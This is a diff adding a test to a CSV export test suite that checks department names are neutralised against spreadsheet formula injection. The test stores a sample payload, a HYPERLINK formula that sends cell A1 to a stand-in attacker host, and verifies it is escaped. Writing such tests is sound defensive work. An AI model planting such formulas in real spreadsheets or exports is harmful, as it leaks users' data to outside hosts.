@@ -319,6 +319,24 @@ describe.each(engines())('department performance on %s', (engine) => {
     expect(rows.find((r) => r.month === '2025-04' && r.code === 'so-a')).toMatchObject({ overdue: '0' });
   });
 
+  it('writes a unit name that a spreadsheet would run as a formula as text', async () => {
+    // An admin-typed (or imported) name is the value an attacker controls in this export.
+    const evil = '=HYPERLINK("http://attacker.example/?"&A1,"点此查看")';
+    await db.rows(sql`update departments set name_en = ${evil}, name = '@SUM(1+1)' where id = ${B}`);
+    try {
+      const res = await getCsv(
+        routeEvent(app, leader, { path: '/api/performance/export.csv', query: '?year=2025' }),
+      );
+      const text = (await res.text()).replace(/^\uFEFF/, '');
+      const row = text.split('\r\n').find((l) => l.startsWith('2025-03,') && l.includes('fn-b'))!;
+      expect(row).toContain(`'@SUM(1+1),"'=HYPERLINK(""http://attacker.example/?""&A1,""点此查看"")"`);
+      // No cell of the file starts a formula any more.
+      expect(text.split('\r\n').some((l) => /(^|,)"?[=+@]/.test(l))).toBe(false);
+    } finally {
+      await db.rows(sql`update departments set name_en = 'Department B', name = '乙局' where id = ${B}`);
+    }
+  });
+
   it('refuses bad parameters with 400 naming them', async () => {
     for (const q of ['?month=2025-13', '?month=March', '?scheme=abc', '?scheme=0', `?month=2099-01`]) {
       const r = await ranking(leader, q);
